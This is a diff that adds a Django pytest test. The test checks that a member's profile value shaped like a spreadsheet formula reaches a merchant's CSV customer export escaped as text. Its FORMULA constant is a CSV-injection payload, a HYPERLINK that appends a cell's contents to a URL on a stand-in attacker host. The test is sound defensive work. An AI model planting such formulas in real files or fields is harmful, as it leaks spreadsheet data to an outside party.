@@ -1,0 +1,37 @@
+"""A member's text that looks like a spreadsheet formula reaches a merchant's CSV as text."""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+import pytest
+from django.test import Client
+
+from kliento.audit.actors import Actor
+from kliento.register import services as register
+from kliento.sharing import services as sharing
+from tests.sharing.test_customer_view import api_checkin
+
+FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'
+
+
+@pytest.mark.django_db
+def test_a_members_formula_reaches_the_merchants_export_as_text(
+    client: Client, merchant_a: Any, cardholder: Any, person: Any
+) -> None:
+    subject, number = person
+    api_checkin(client, merchant_a, number)
+    me = Actor.person(cardholder)
+    register.profile_value_set(subject=subject, item_key="first_name", value=FORMULA, actor=me)
+    sharing.grants_set(
+        subject=subject, merchant=merchant_a.merchant, items=["first_name"], actor=me
+    )
+    client.force_login(merchant_a.owner)
+
+    response = client.get(f"/merchant/{merchant_a.merchant.public_id}/customers/export.csv")
+
+    content = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
+    [row] = list(csv.DictReader(io.StringIO(content)))
+    assert row["first_name"] == "'" + FORMULA
